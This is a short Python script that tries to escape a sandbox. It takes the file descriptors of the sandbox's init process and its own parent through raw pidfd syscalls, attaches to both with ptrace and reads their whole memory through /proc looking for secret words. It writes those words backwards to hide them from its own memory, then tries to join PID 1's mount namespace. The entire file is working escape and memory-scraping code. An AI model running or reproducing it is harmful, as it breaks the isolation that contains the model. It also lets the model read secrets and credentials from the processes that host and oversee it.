"""Takes over the sandbox's first process and our parent, stops them, and reads all their memory. Arguments: words to look for, written backwards, since what is on our command line is in memory too."""
import ctypes, os, sys
from attempts import attempt, gained, libc, report, system_call

words = [word[::-1].encode() for word in sys.argv[1:]]
for pid in {1, os.getppid()} - {0, os.getpid()}:
    handle = system_call(434, 434, pid, 0)
    if handle >= 0:
        for descriptor in range(16):
            system_call(438, 438, handle, descriptor, 0)
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "r" not in line.split()[1] or end - start > 1 << 26 or start > 1 << 62:
                    continue
                try:
                    memory.seek(start)
                    text = memory.read(end - start)
                    gained.extend(f"{word.decode()} in the memory of {pid}" for word in words if word in text)
                except OSError:
                    pass
    except OSError:
        pass
    libc.ptrace(16, pid, 0, 0)
attempt("enter its files", lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
report()
